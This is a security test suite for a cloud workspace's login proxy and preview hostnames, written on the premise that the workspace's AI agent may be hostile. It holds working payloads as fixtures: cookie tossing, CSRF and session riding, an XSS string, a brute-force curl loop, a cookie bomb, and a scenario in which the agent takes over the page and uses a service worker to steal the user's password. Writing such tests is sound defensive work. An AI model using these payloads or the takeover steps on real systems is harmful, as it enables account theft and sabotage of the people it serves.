"""Attacks on a launched workspace's web surface (`--domain`, `--desktop`; simulated Hetzner cloud,
real Caddy and fail2ban on the VM, headless chromium): the agent's dev server on p3000 is the
attacker's app, and the agent itself reads whatever that app receives. Each test asserts that the
attack failed, and that the user's own use kept working.

Covered: bypassing the login, Host and path tricks, a credential reaching a backend (and replayed
from there), cookie tossing and riding the session from a preview (fetch, form posts, framing,
the desktop's websocket), CSRF against the login and the page, XSS through the agent's messages
and file names, brute force (logged without credentials, then banned), and the login's secrets
against the agent user.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import socket
import ssl
import time
from collections.abc import Iterator

import pytest

from tests.conftest import RUN_LABEL
from tests.containers import remove
from tests.polling import eventually, wait_until

from .conftest import RUN
from .web_helpers import (
    Launched,
    browser,
    https,
    launch,
    root_on,
    session_cookies,
    sign_in,
    sign_in_browser,
    waiting,
)

NAME = "webatk"
CAPTURED = f"/home/agent/work/{NAME}/captured.jsonl"
# The agent's dev server on :3000, written by the agent: it records every request it gets and
# serves an attack page that tosses cookies and tries to ride the user's session.
EVIL_SERVER = r"""
import http.server, json
LOG = %(log)r
PAGE = %(page)r
class Evil(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(LOG, "a") as f:
            f.write(json.dumps({"path": self.path, "headers": self.headers.items()}) + "\n")
        body = PAGE.encode() if self.path.startswith("/attack") else b"<p id=evil>evil app</p>"
        self.send_response(200)
        host = self.headers.get("Host", "").split(".", 1)[1]
        self.send_header("Set-Cookie", "__Host-vmgen=tossed-by-header; Path=/; Secure; Domain=" + host)
        self.send_header("Set-Cookie", "vmgen-plain=tossed; Path=/; Secure; Domain=" + host)
        self.send_header("X-Frame-Options", "SAMEORIGIN")
        self.send_header("X-Evil-App", "its own header")
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", 3000), Evil).serve_forever()
"""
ATTACK_PAGE = """<!doctype html><html><body><script>
const host = location.hostname.split(".").slice(1).join(".");
window.results = {};
const done = (key, value) => { window.results[key] = value; };
done("cookies_seen", document.cookie);
document.cookie = "__Host-vmgen=tossed-by-script; Path=/; Secure; Domain=" + host;
document.cookie = "__host-vmgen=tossed-lowercase; Path=/; Secure; Domain=" + host;
fetch(`https://${host}/api/state`, {credentials: "include"})
  .then(r => r.text()).then(t => done("fetch_page", t), e => done("fetch_page", "error: " + e));
fetch(`https://${host}/api/keepalive`, {method: "POST", credentials: "include", mode: "no-cors",
  headers: {"Content-Type": "text/plain"}, body: JSON.stringify({hours: 4})})
  .then(() => done("post_page", "sent"), e => done("post_page", "error: " + e));
const ws = new WebSocket(`wss://desktop.${host}/websockify`);
ws.onopen = () => done("websocket", "open"); ws.onerror = () => done("websocket", "error");
const frame = document.createElement("iframe"); frame.src = `https://code.${host}/`;
document.body.appendChild(frame);
const sink = document.createElement("iframe"); sink.name = "sink"; document.body.appendChild(sink);
const form = document.createElement("form");
form.method = "post"; form.action = `https://${host}/api/keepalive`; form.target = "sink";
form.enctype = "text/plain"; form.innerHTML = '<input name=\\'{"hours": 4, "x": "\\' value=\\'"}\\'>';
document.body.appendChild(form); form.submit();
const login = document.createElement("form");
login.method = "post"; login.action = `https://${host}/.vmgen/logout`; login.target = "sink";
document.body.appendChild(login); setTimeout(() => login.submit(), 300);
setTimeout(() => done("finished", true), 2500);
</script></body></html>"""


@pytest.fixture(scope="module")
def ws(cli, web_lite_cloud, tmp_path_factory) -> Iterator[Launched]:
    """A workspace with a domain and a desktop, without the code UI (its attacks, which need
    CloudCLI running, are in test_web_access.py): no waiting for CloudCLI's compile here."""
    _, dns = web_lite_cloud
    workspace = launch(cli, dns, tmp_path_factory.mktemp("repos"), NAME, "--desktop")
    server = EVIL_SERVER % {"log": CAPTURED, "page": ATTACK_PAGE}
    cli.ssh(NAME, f"cat > ~/evil.py <<'EOF'\n{server}\nEOF\n(setsid python3 ~/evil.py >/dev/null 2>&1 &)")
    yield workspace
    cli("destroy", NAME, "--yes", check=False)


@pytest.fixture(scope="module")
def vm(ws, docker_client):
    return root_on(docker_client, NAME)


def captured(cli) -> list[dict]:
    text = cli.ssh(NAME, f"cat {CAPTURED} 2>/dev/null || true")
    return [json.loads(line) for line in text.splitlines() if line.strip()]


def leases(cli) -> str:
    return cli.ssh(NAME, "cat ~/.vmgen/leases.json 2>/dev/null || echo none").strip()


# --- the login itself ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("host_prefix", "path", "headers"),
    [
        ("", "/api/state", {}),
        ("", "/api/state", {"Authorization": "Bearer x"}),
        ("", "/api/state", {"Cookie": "__Host-vmgen=guess; vmgen=1"}),
        ("", "/.vmgen/check", {"X-Forwarded-Uri": "/healthz"}),
        ("", "/healthz/../api/state", {}),
        ("", "/%2e%2e/api/state", {}),
        ("", "/.vmgen/../api/state", {}),
        ("", "//api/state", {}),
        ("desktop.", "/vnc.html", {"X-Vmgen-Cookie": "x", "X-Forwarded-Method": "GET"}),
        (
            "desktop.",
            "/websockify",
            {
                "Upgrade": "websocket",
                "Connection": "Upgrade",
                "Sec-WebSocket-Version": "13",
                "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
                "Origin": "https://desktop.x",
            },
        ),
        ("p3000.", "/", {"X-Vmgen-Client": "127.0.0.1"}),
    ],
)
def test_nothing_gets_past_the_login(ws, host_prefix, path, headers):
    reply = https(ws.ip, f"{host_prefix}{ws.host}", path, headers=headers)
    assert reply.status in (302, 401, 403, 404), (reply.status, reply.text[:200])
    assert "evil app" not in reply.text and "vmgen workspace" not in reply.text


def test_host_tricks_reach_no_backend(ws):
    # TLS for one name, Host for another, unknown names: Host decides, and needs its own login.
    _, session = sign_in(ws.ip, ws.host, ws.password)
    assert session is not None
    for host in (f"desktop.{ws.host}", "localhost", f"{ws.host}.evil.example", f"p3000.{ws.host}", "127.0.0.1:7392"):
        reply = https(ws.ip, host, "/api/state", headers={"Cookie": session.cookies[ws.host]}, sni=ws.host)
        assert reply.status != 200 or reply.body == b"", (host, reply.status)
    assert session.get(ws.host, "/api/state").status == 200


# --- what the agent's dev server gets -----------------------------------------------------------


def test_no_backend_receives_a_credential_that_works_elsewhere(cli, ws):
    driver = browser(ws.ip)
    try:
        sign_in_browser(driver, f"https://{ws.host}/", ws.password)
        driver.get(f"https://p3000.{ws.host}/")
        wait_until(lambda: driver.page_source, lambda html: "evil app" in html, timeout=60)
    finally:
        driver.quit()
    seen = captured(cli)
    assert seen, "the dev server on :3000 got the user's requests"
    text = json.dumps(seen)
    assert ws.password not in text and "__Host-vmgen" not in text.replace("tossed", "")
    assert not any(name.lower() == "authorization" for request in seen for name, _ in request["headers"])
    # Whatever it did get, replayed from the internet, opens no other hostname.
    cookies = {value for request in seen for name, value in request["headers"] if name.lower() == "cookie"}
    for cookie in cookies or {""}:
        for host, path in ((ws.host, "/api/state"), (f"desktop.{ws.host}", "/vnc.html")):
            assert https(ws.ip, host, path, headers={"Cookie": cookie}).status == 401, (host, cookie)


def test_a_preview_can_neither_read_set_nor_ride_the_session(cli, ws):
    before = leases(cli)
    driver = browser(ws.ip)
    try:
        sign_in_browser(driver, f"https://{ws.host}/", ws.password)
        (ours,) = session_cookies(driver)
        driver.get(f"https://p3000.{ws.host}/attack")
        results = wait_until(
            lambda: driver.execute_script("return window.results || {}"),
            lambda r: r.get("finished") and "websocket" in r and "fetch_page" in r,
            timeout=60,
        )
        # Read: its own hostname's session cookie is HttpOnly.
        (preview_session,) = [v for v in session_cookies(driver) if not v.startswith("tossed")]
        assert preview_session not in results["cookies_seen"] and ours not in results["cookies_seen"]
        # Ride: nothing answered, nothing happened.
        assert results["fetch_page"].startswith("error") and results["websocket"] == "error"
        assert leases(cli) == before
        # Set: the workspace's hostname still holds exactly its own session, still signed in
        # (the logout the page tried did not happen either).
        driver.get(f"https://{ws.host}/")
        wait_until(lambda: driver.find_elements("id", "agent"), bool, timeout=30)
        assert session_cookies(driver) == [ours]
        assert https(ws.ip, ws.host, "/api/state", headers={"Cookie": f"__Host-vmgen={ours}"}).status == 200
    finally:
        driver.quit()


def test_the_desktop_websocket_only_from_the_desktop_and_vnc_asks_for_its_password(ws):
    _, session = sign_in(ws.ip, ws.host, ws.password)
    assert session is not None
    session.open("desktop")
    desktop = f"desktop.{ws.host}"
    handshake = {
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": base64.b64encode(os.urandom(16)).decode(),
        "Sec-WebSocket-Protocol": "binary",
    }
    for origin in (f"https://p3000.{ws.host}", f"https://{ws.host}", "null", None):
        headers = {**handshake, **({"Origin": origin} if origin else {})}
        assert session.get(desktop, "/websockify", headers).status == 403, origin
    assert https(ws.ip, desktop, "/websockify", headers={**handshake, "Origin": f"https://{desktop}"}).status == 401
    security = vnc_security_types(ws.ip, desktop, session.cookies[desktop])
    assert security == [2], "VNC asks for its password (type 2), never none (type 1)"


@contextlib.contextmanager
def desktop_websocket(ip: str, host: str, cookie: str):
    """The desktop's websocket opened as its own page opens it, past the VNC server's greeting."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((ip, 443), timeout=20) as raw, context.wrap_socket(raw, server_hostname=host) as tls:
        key = base64.b64encode(os.urandom(16)).decode()
        tls.sendall(
            (
                f"GET /websockify HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: binary\r\n"
                f"Origin: https://{host}\r\nCookie: {cookie}\r\n\r\n"
            ).encode()
        )
        head = b""
        while b"\r\n\r\n" not in head:
            head += tls.recv(1)
        assert b" 101 " in head.split(b"\r\n")[0], head
        version = ws_read(tls)
        assert version.startswith(b"RFB 003.008"), version
        yield tls


def vnc_security_types(ip: str, host: str, cookie: str) -> list[int]:
    """What the VNC server offers, asked through the desktop's websocket."""
    with desktop_websocket(ip, host, cookie) as tls:
        ws_send(tls, b"RFB 003.008\n")
        offered = ws_read(tls)
        return list(offered[1 : 1 + offered[0]])


def ws_read(tls) -> bytes:
    first = tls.recv(2)
    length = first[1] & 0x7F
    if length == 126:
        length = int.from_bytes(tls.recv(2), "big")
    data = b""
    while len(data) < length:
        data += tls.recv(length - len(data))
    return data


def ws_send(tls, payload: bytes) -> None:
    mask = os.urandom(4)
    tls.sendall(bytes([0x82, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))


# --- headers, framing, CSRF, XSS ------------------------------------------------------------


def test_security_headers_on_vmgens_hostnames_and_the_apps_own_on_previews(ws):
    _, session = sign_in(ws.ip, ws.host, ws.password)
    assert session is not None
    session.open("desktop")
    for host, path in ((ws.host, "/"), (ws.host, "/.vmgen/login"), (f"desktop.{ws.host}", "/vnc.html")):
        reply = session.get(host, path)
        assert reply.headers["x-frame-options"] == "DENY", host
        assert "frame-ancestors 'none'" in reply.headers["content-security-policy"], host
        assert reply.headers["x-content-type-options"] == "nosniff", host
        assert reply.headers["strict-transport-security"].startswith("max-age=31536000"), host
    # A frame of a vmgen hostname, asked for from a preview, is refused before any backend.
    framing = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"}
    framed = session.get(f"desktop.{ws.host}", "/vnc.html", framing)
    assert framed.status == 403
    session.open("p3000")
    preview = session.get(f"p3000.{ws.host}", "/")
    assert preview.status == 200 and preview.headers["x-frame-options"] == "SAMEORIGIN"
    assert preview.headers["x-evil-app"] == "its own header" and "content-security-policy" not in preview.headers


def test_csrf_against_the_login_and_the_page_is_refused(cli, ws):
    before = leases(cli)
    _, session = sign_in(ws.ip, ws.host, ws.password)
    assert session is not None
    cookie = {"Cookie": session.cookies[ws.host]}
    preview = f"https://p3000.{ws.host}"
    form = "application/x-www-form-urlencoded"
    login = f"user=vmgen&password={ws.password}".encode()
    posted = https(ws.ip, ws.host, "/.vmgen/login", "POST", {"Content-Type": form, "Origin": preview}, login)
    assert posted.status == 403 and "set-cookie" not in posted.headers
    assert https(ws.ip, ws.host, "/.vmgen/logout", "POST", {**cookie, "Origin": preview}).status == 403
    assert (
        https(
            ws.ip,
            ws.host,
            "/api/keepalive",
            "POST",
            {**cookie, "Origin": preview, "X-Vmgen-Action": "1", "Content-Type": "application/json"},
            b'{"hours": 4}',
        ).status
        == 403
    )
    assert session.get(ws.host, "/api/state").status == 200 and leases(cli) == before


def test_xss_through_the_agents_messages_and_file_names_stays_text(cli, ws):
    from selenium.webdriver.common.by import By

    payload = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>'
    transcript = [
        {"type": "user", "timestamp": "2030-01-01T00:00:00Z", "message": {"role": "user", "content": payload}},
        {
            "type": "assistant",
            "timestamp": "2030-01-01T00:00:01Z",
            "message": {
                "role": "assistant",
                "content": [
                    {"type": "text", "text": payload},
                    {"type": "tool_use", "id": "t1", "name": "Write", "input": {"file_path": f"/tmp/{payload}.md"}},
                ],
            },
        },
    ]
    lines = "\n".join(json.dumps(entry) for entry in transcript)
    project = f"~/.claude/projects/-home-agent-work-{NAME}"
    cli.ssh(NAME, f"mkdir -p {project} && cat > {project}/zz-xss.jsonl <<'EOF'\n{lines}\nEOF")
    driver = browser(ws.ip)
    try:
        sign_in_browser(driver, f"https://{ws.host}/", ws.password)
        wait_until(lambda: driver.find_element(By.ID, "activity").text, lambda text: "onerror" in text, timeout=60)
        assert driver.execute_script("return window.__pwned") is None
        assert driver.find_elements(By.CSS_SELECTOR, "#activity img, #activity script") == []
        assert payload in driver.find_element(By.ID, "activity").text
    finally:
        driver.quit()
        cli.ssh(NAME, f"rm -f {project}/zz-xss.jsonl")


# --- brute force ----------------------------------------------------------------------------------


def test_failed_logins_are_logged_without_credentials_and_then_banned(
    ws, vm, web_lite_cloud, docker_client, web_lite_image
):
    fake, _ = web_lite_cloud
    # Another address on the cloud's network (the test's own must stay unbanned): a container of
    # this run's image, which has curl, doing nothing but guessing.
    attacker = docker_client.containers.run(
        web_lite_image,
        ["sleep", "600"],
        detach=True,
        network=fake.network_name,
        name=f"vmgen-test-attacker-{RUN}",
        labels={RUN_LABEL: RUN},
    )
    try:
        attacker.reload()
        attacker_ip = attacker.attrs["NetworkSettings"]["Networks"][fake.network_name]["IPAddress"]

        def guess(i: int) -> str:
            result = attacker.exec_run(
                [
                    "curl",
                    "-sk",
                    "-o",
                    "/dev/null",
                    "-w",
                    "%{http_code}",
                    "--connect-timeout",
                    "5",
                    "--max-time",
                    "10",
                    "--resolve",
                    f"{ws.host}:443:{ws.ip}",
                    "-H",
                    f"Origin: https://{ws.host}",
                    "--data",
                    f"user=vmgen&password=guess-{i}-{RUN}",
                    f"https://{ws.host}/.vmgen/login",
                ]
            )
            return result.output.decode().strip() or f"exit {result.exit_code}"

        answers = [guess(i) for i in range(5)]
        assert answers == ["401"] * 5
        # fail2ban reads the log and bans the address: its connections go nowhere now.
        eventually(
            lambda: guess(99) not in ("401", "429"), timeout=60, what="fail2ban to ban the guessing address", interval=2
        )
        assert attacker_ip in vm("fail2ban-client status vmgen-web")
        # The user, from another address, is not affected.
        _reply, session = sign_in(ws.ip, ws.host, ws.password)
        assert session is not None
        log = vm("cat /var/log/caddy/vmgen-access.log")
        failed = [json.loads(line) for line in log.splitlines() if '"status":401' in line]
        assert sum(1 for entry in failed if entry["request"]["remote_ip"] == attacker_ip) >= 5
        assert all(entry["request"]["uri"] == "/.vmgen/login" for entry in failed)
        assert ws.password not in log and f"guess-0-{RUN}" not in log
        assert session.cookies[ws.host].split("=", 1)[1] not in log
    finally:
        remove(attacker)


# --- the login's secrets against the agent ------------------------------------------------------


def test_the_logins_secrets_are_not_the_agents(cli, ws, vm):
    assert vm("stat -c '%U:%G %a' /etc/vmgen/Caddyfile").strip() == "root:caddy 640"
    assert vm("stat -c '%U:%G %a' /etc/vmgen/web-login").strip() == "root:vmgen-web 750"
    assert set(vm("stat -c '%U:%G %a' /etc/vmgen/web-login/*").split("\n")) - {""} == {"root:vmgen-web 640"}
    assert vm("stat -c '%U:%G %a' /run/vmgen/web-login.sock").strip() == "root:caddy 660"
    assert vm("stat -c '%U:%G %a' /run/vmgen/page.sock").strip() == "root:caddy 660"
    assert vm("stat -c '%U:%G %a' /run/vmgen/page-ops.sock").strip() == "root:vmgen-page 660"
    # CloudCLI has no key of its own any more (platform mode behind the login): none is made.
    assert vm("test -e /etc/vmgen/cloudcli.env && echo present || echo absent").strip() == "absent"
    users = vm("ps -eo user:20,args | grep -E '[v]mside (web|web-login)$'")
    assert {tuple(line.split()[:1] + line.split()[-1:]) for line in users.splitlines()} == {
        ("vmgen-web", "web-login"),
        ("vmgen-page", "web"),
    }, users
    verifier = vm("cat /etc/vmgen/web-login/login").strip()
    assert verifier.startswith("sha256$")
    for path in ("/etc/vmgen/Caddyfile", "/etc/vmgen/web-login/login", "/etc/vmgen/web-login/code-ui-secret"):
        assert "Permission denied" in cli.ssh(NAME, f"cat {path} 2>&1 || true"), path
    for sock in ("web-login", "page", "page-ops"):
        connect = cli.ssh(
            NAME,
            "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect("
            f'"/run/vmgen/{sock}.sock")\' 2>&1 || true',
        )
        assert "Permission denied" in connect, sock
    # Neither the password nor its verifier anywhere the agent can read (CloudCLI's account: in
    # test_web_access.py, where it runs).
    for secret in (ws.password, verifier.split("$")[2]):
        found = cli.ssh(NAME, f"grep -rlsF -- {secret} ~ /etc /var/log /tmp /run 2>/dev/null | head -3 || true")
        assert found.strip() == "", found


# --- issue 22: the page's origin is not the agent's; a preview cannot lock the user out; Sign out
# ends live connections ---------------------------------------------------------------------------

# What the agent serves once it has replaced a backend: a page that registers a service worker,
# the worker (which would serve its own sign-in form for the hostname and pass the password on),
# and a log of every request it gets.
TAKEOVER_SERVER = r"""
import http.server, json, os, sys
LOG, HERE, PORT = sys.argv[1], os.path.dirname(os.path.abspath(__file__)), int(sys.argv[2])
class Evil(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(LOG, "a") as f:
            f.write(json.dumps({"path": self.path, "headers": self.headers.items()}) + "\n")
        name, kind = ("sw.js", "text/javascript") if self.path == "/sw.js" else ("page.html", "text/html")
        with open(os.path.join(HERE, name), "rb") as f:
            body = f.read()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", PORT), Evil).serve_forever()
"""
TAKEOVER_PAGE = """<!doctype html><p id=evil>evil</p><script>
navigator.serviceWorker.register("/sw.js", {scope: "/"})
  .then(() => window.result = "registered", (e) => window.result = "refused: " + e);
</script>"""
# Serves its own form at the sign-in path; the password typed there goes to the agent's backend
# (in the query of the next page load, once the real sign-in let it through).
TAKEOVER_WORKER = """
let typed = "";
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  const url = new URL(e.request.url);
  if (url.pathname === "/.vmgen/login" && e.request.method === "GET") {
    e.respondWith(new Response('<form method=post action="/.vmgen/login"><input name=user value=vmgen>' +
      '<input id=password name=password type=password><button id=signin>Sign in</button></form>',
      {headers: {"Content-Type": "text/html"}}));
  } else if (url.pathname === "/.vmgen/login") {
    e.respondWith(e.request.clone().formData()
      .then((form) => { typed = form.get("password"); return fetch(e.request); }));
  } else if (typed) {
    e.respondWith(fetch("/stolen?password=" + encodeURIComponent(typed)));
  }
});
"""
TAKEN = f"/home/agent/work/{NAME}/takeover.jsonl"


def caddy_ca_spki(vm) -> str:
    """The VM's Caddy CA, trusted by chromium as a real CA is: service workers need a valid chain."""
    from tests.raw_https import spki_hash

    path = vm("find /var/lib/caddy -name intermediate.crt -path '*authorities/local*' | head -1").strip()
    return spki_hash(vm(f"cat {path}").encode())


def test_the_agent_cannot_take_the_page_over_nor_steal_the_password_with_a_worker(cli, ws, vm):
    """The attack of issue 22: the agent stops the page's server (its own process then), serves the
    page's origin itself, and a service worker registered there outlives Sign out and takes the
    password typed into its own sign-in form. Now the page is not the agent's to stop, its address
    not the agent's to take, and no worker registers on vmgen's hostnames (the desktop's, which the
    agent does serve, included)."""
    from selenium.webdriver.common.by import By

    # The agent stops the page (and its own websockify) and serves both addresses itself: the
    # page's old port and the desktop's.
    page_pid = vm("systemctl show -p MainPID --value vmgen-web.service").strip()
    files = {"server.py": TAKEOVER_SERVER, "page.html": TAKEOVER_PAGE, "sw.js": TAKEOVER_WORKER}
    cli.ssh(
        NAME,
        "mkdir -p ~/takeover\n"
        + "".join(f"cat > ~/takeover/{name} <<'EOF'\n{text}\nEOF\n" for name, text in files.items()),
    )
    websockify = "$(systemctl show -p MainPID --value vmgen-desktop-novnc.service)"
    driver = None
    try:
        tried = cli.ssh(
            NAME,
            f"kill {page_pid} 2>&1; pkill -f 'vmside web$' 2>&1; kill {websockify}; "
            + "".join(
                f"(setsid python3 ~/takeover/server.py {TAKEN} {port} >/dev/null 2>&1 &); " for port in (7392, 6080)
            )
            + "echo done",
        )
        retake = (
            "pid=$(systemctl show -p MainPID --value vmgen-desktop-novnc.service); "
            '[ "${pid:-0}" -gt 0 ] && kill "$pid"; '
            f"(setsid python3 ~/takeover/server.py {TAKEN} 6080 >/dev/null 2>&1 &); true"
        )

        def served_by_the_agent() -> bool:
            if "evil" in cli.ssh(NAME, "curl -s 127.0.0.1:6080/ || true"):
                return True
            # websockify is the agent's own process, restarted by its unit: on a loaded machine it
            # can bind the port again before the agent's server starts. The agent simply tries again.
            cli.ssh(NAME, retake)
            return False

        eventually(served_by_the_agent, timeout=90, interval=2, what="the agent's server on the desktop's port")
        driver = browser(ws.ip, trusted_spki=caddy_ca_spki(vm))
        wait = waiting(driver, 60)
        sign_in_browser(driver, f"https://{ws.host}/", ws.password)
        for host in (ws.host, f"desktop.{ws.host}"):  # wherever the agent's page is served, it tries
            driver.get(f"https://{host}/")
            wait.until(lambda d: d.find_elements(By.ID, "evil") or d.find_elements(By.ID, "agent"))
            if driver.find_elements(By.ID, "evil"):
                wait_until(lambda: driver.execute_script("return window.result"), bool, timeout=30)
        # Sign out, and in again: the password typed into whatever the browser shows for the form.
        driver.get(f"https://{ws.host}/.vmgen/nothing")
        driver.execute_script("""const f = document.createElement('form'); f.method = 'post';
            f.action = '/.vmgen/logout'; document.body.appendChild(f); f.submit();""")
        wait.until(lambda d: d.find_elements(By.ID, "password"))
        sign_in_browser(driver, f"https://{ws.host}/", ws.password)
        driver.get(f"https://{ws.host}/")
        wait.until(lambda d: d.find_elements(By.ID, "evil") or d.find_elements(By.ID, "agent"))
        page_is_vmgens = bool(driver.find_elements(By.ID, "agent"))
        workers = {}
        for host in (ws.host, f"desktop.{ws.host}"):
            driver.get(f"https://{host}/.vmgen/nothing")
            workers[host] = driver.execute_script(
                "return navigator.serviceWorker.getRegistrations().then(r => r.length)"
            )
    finally:
        if driver is not None:
            driver.quit()
        cli.ssh(NAME, "pkill -u agent -f '[t]akeover/server.py' || true")  # [t]: not this very shell
        vm("systemctl restart vmgen-desktop-novnc.service")  # the agent's websockify back, for what follows
    taken = cli.ssh(NAME, f"cat {TAKEN} 2>/dev/null || true")
    assert ws.password not in taken and "stolen" not in taken, "the password reached the agent"
    assert workers == {ws.host: 0, f"desktop.{ws.host}": 0}, workers
    assert page_is_vmgens, "the agent served the workspace page"
    assert "Operation not permitted" in tried and vm(f"ps -o user= -p {page_pid}").strip() == "vmgen-page"
    # The browser asked for the worker's script on the desktop's hostname; the login refused it
    # before any backend saw it.
    assert '"/sw.js"' not in taken and '"/"' in taken


def test_a_cookie_bomb_from_a_preview_locks_no_hostname(ws):
    """A page on p3000 plants 20 cookies of 4000 bytes for the workspace's domain: every hostname
    answered 431 until the user cleared cookies by hand. Now each keeps working."""
    from selenium.webdriver.common.by import By

    bomb = (
        "<script>for (let i = 0; i < 20; i++) document.cookie = `bomb${i}=${'x'.repeat(4000)}; Path=/; "
        "Secure; Domain=${location.hostname.split('.').slice(1).join('.')}`;"
        "window.planted = document.cookie.split('; ').filter(c => c.startsWith('bomb')).length;</script>"
    )
    driver = browser(ws.ip)
    try:
        sign_in_browser(driver, f"https://{ws.host}/", ws.password)
        driver.get(f"https://p3000.{ws.host}/")
        wait_until(lambda: driver.page_source, lambda html: "evil app" in html, timeout=60)
        driver.execute_script(
            f"document.body.insertAdjacentHTML('beforeend', {json.dumps(bomb)});"
            "const s = document.createElement('script');"
            "s.textContent = document.body.lastElementChild.textContent;"
            "document.body.appendChild(s);"
        )
        assert wait_until(lambda: driver.execute_script("return window.planted"), bool, timeout=10) == 20
        wait = waiting(driver, 60)
        driver.get(f"https://{ws.host}/")
        wait.until(lambda d: d.find_elements(By.ID, "agent") and d.find_element(By.ID, "name").text == NAME)
        driver.get(f"https://desktop.{ws.host}/")
        wait.until(lambda d: "vnc.html" in d.current_url and d.find_elements(By.ID, "noVNC_control_bar"))
        kept = [c for c in driver.get_cookies() if c["name"].startswith("bomb")]
        assert sum(len(c["value"]) for c in kept) <= 8 << 10
    finally:
        driver.quit()


def test_sign_out_closes_the_desktops_websocket(ws):
    """A VNC websocket opened before Sign out went on answering after it: now it is closed."""
    _, session = sign_in(ws.ip, ws.host, ws.password)
    assert session is not None
    session.open("desktop")
    desktop = f"desktop.{ws.host}"
    with desktop_websocket(ws.ip, desktop, session.cookies[desktop]) as tls:
        out = https(
            ws.ip,
            ws.host,
            "/.vmgen/logout",
            "POST",
            {"Cookie": session.cookies[ws.host], "Origin": f"https://{ws.host}"},
        )
        assert out.status == 303
        started = time.monotonic()
        tls.settimeout(10)
        try:
            ended = tls.recv(1) == b""
        except (ConnectionError, ssl.SSLError):
            ended = True
        assert ended and time.monotonic() - started < 5
